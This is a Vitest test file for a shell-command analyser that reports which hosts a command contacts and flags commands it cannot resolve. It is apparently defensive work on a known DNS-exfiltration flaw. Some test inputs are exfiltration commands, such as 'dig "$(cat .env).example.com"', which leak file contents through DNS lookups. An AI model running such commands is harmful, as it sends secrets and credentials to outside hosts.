import { describe, expect, test } from 'vitest';
import { opaqueKinds, type ShortEffects, shortEffects } from '../testing/effects.ts';

describe('programs that only tell something', () => {
  test.each([
    'ps aux',
    'ps -ef',
    'ps -o pid,cmd -p 1',
    'top -b -n 1',
    'pgrep -fa node',
    'pidof -s sh',
    'kill 5',
    'kill -9 5',
    'kill -TERM 5',
    'kill -SIGINT 5',
    'kill -s TERM 5',
    'kill -l',
    'kill -- -5',
    'kill $pid',
    'kill %1',
    'pkill -f node',
    'pkill -9 node',
    'pkill -KILL node',
    'pkill -SIGTERM -f node',
    'killall -HUP node',
    'pkill --signal TERM x',
    'killall -9 node',
    'killall -s TERM node',
    'free -h',
    'w -s',
    'which -a ls',
    'whereis -b ls',
    'getent passwd dev',
    'getent services ssh',
  ])('%s', (line) => {
    expect(shortEffects(line)).toEqual({});
  });
});

describe('CVE-2025-55284 a name that is looked up reaches a host', () => {
  test.each<readonly [string, ShortEffects]>([
    ['ping example.com', { hosts: ['example.com'] }],
    ['ping -c 1 -W 2 example.com', { hosts: ['example.com'] }],
    ['ping example.com -c 1', { hosts: ['example.com'] }],
    ['ping6 ::1', { hosts: ['::1'] }],
    ['traceroute -n example.com 60', { hosts: ['example.com'] }],
    ['tracepath example.com', { hosts: ['example.com'] }],
    ['host -t mx example.com 192.0.2.1', { hosts: ['example.com', '192.0.2.1'] }],
    ['whois -h whois.example.com example.com', { hosts: ['whois.example.com', 'example.com'] }],
    ['dig example.com', { hosts: ['example.com'] }],
    ['dig +short secret.example.com txt', { hosts: ['secret.example.com'] }],
    ['dig @192.0.2.1 -p 5353 -t mx example.com.', { hosts: ['192.0.2.1', 'example.com'] }],
    ['dig -x 192.0.2.1', { hosts: ['192.0.2.1'] }],
    ['nslookup example.com 192.0.2.1', { hosts: ['example.com', '192.0.2.1'] }],
    ['nslookup -type=txt example.com', { hosts: ['example.com'] }],
    ['getent hosts example.com', { hosts: ['example.com'] }],
    ['getent ahosts a.example.com b.example.com', { hosts: ['a.example.com', 'b.example.com'] }],
  ])('%s', (line, effects) => {
    expect(shortEffects(line)).toEqual(effects);
  });

  test.each([
    'ping $x',
    'ping "$(cat secret).example.com"',
    'ping -- "a$x"',
    'dig $x',
    'dig "$(cat .env).example.com"',
    'nslookup "$x.example.com"',
    'host "a$x"',
    'getent hosts "$x"',
    'getent $x',
    'traceroute "a$x"',
    'whois "a$x"',
    'dig a*',
  ])('%s is asked about', (line) => {
    expect(opaqueKinds(line)).toContain('dynamic-word');
  });

  test.each([
    'ping --foo a',
    'ping -P x a',
    'dig -f list',
    'dig -k key a',
    'host -f x',
    'getent -A hosts a',
    'traceroute --foo a',
    'nslookup -foo a',
    'dig -Z a',
    'whois -x a',
  ])('%s is not understood', (line) => {
    expect(opaqueKinds(line)).toContain('unknown-option');
  });
});

test.each<readonly [string, readonly string[]]>([
  ['top', ['inline-code']],
  ['top -b -x', ['unknown-option']],
  ['pgrep -Z x', ['unknown-option']],
  ['pgrep a b', ['unknown-option']],
  ['pkill -ZOO x', ['unknown-option']],
  ['killall -Z x y', ['unknown-option']],
  ['kill -foo 5', ['unknown-option']],
  ['kill --foo 5', ['unknown-option']],
  ['free -x', ['unknown-option']],
  ['w -x', ['unknown-option']],
  ['which -x ls', ['unknown-option']],
  ['whereis -B /bin -f ls', ['unknown-option']],
  ['which $x', ['dynamic-word']],
])('%s is asked about', (line, kinds) => {
  expect(opaqueKinds(line)).toEqual(kinds);
});

test('a file of numbers is read', () => {
  expect(shortEffects('pgrep -F run.pid')).toEqual({ reads: ['/srv/project/run.pid'] });
});
